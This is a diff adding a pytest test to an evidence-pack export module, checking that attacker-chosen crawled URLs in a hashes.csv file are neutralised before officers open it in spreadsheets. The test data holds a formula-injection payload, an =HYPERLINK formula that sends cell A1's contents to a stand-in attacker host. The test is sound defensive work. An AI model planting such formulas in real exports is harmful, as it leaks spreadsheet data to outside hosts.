@@ -281,3 +281,15 @@ def test_standard_tools_accept_the_zip_and_the_signature(exported, tmp_path):
     subprocess.run(["openssl", "pkeyutl", "-verify", "-pubin", "-inkey",
                     str(exported["key_file"]), "-rawin", "-in", str(tmp_path / "manifest.json"),
                     "-sigfile", str(tmp_path / "manifest.sig")], check=True, capture_output=True)
+
+
+def test_hashes_csv_neutralises_formulas_in_crawled_urls():
+    """Issue 18.4: a crawled media URL is attacker-chosen; in the pack's hashes.csv, which
+    officers open in spreadsheets, it must stay text."""
+    from review_ui.evidence.pack import HASH_COLUMNS, _hashes_csv
+
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    row = {name: "" for name in HASH_COLUMNS} | {"path": "items/x/media/00.png",
+                                                 "source_url": formula, "size": 12}
+    parsed = list(csv.DictReader(io.StringIO(_hashes_csv([row]).decode("utf-8"))))
+    assert parsed[0]["source_url"] == "'" + formula and parsed[0]["size"] == "12"
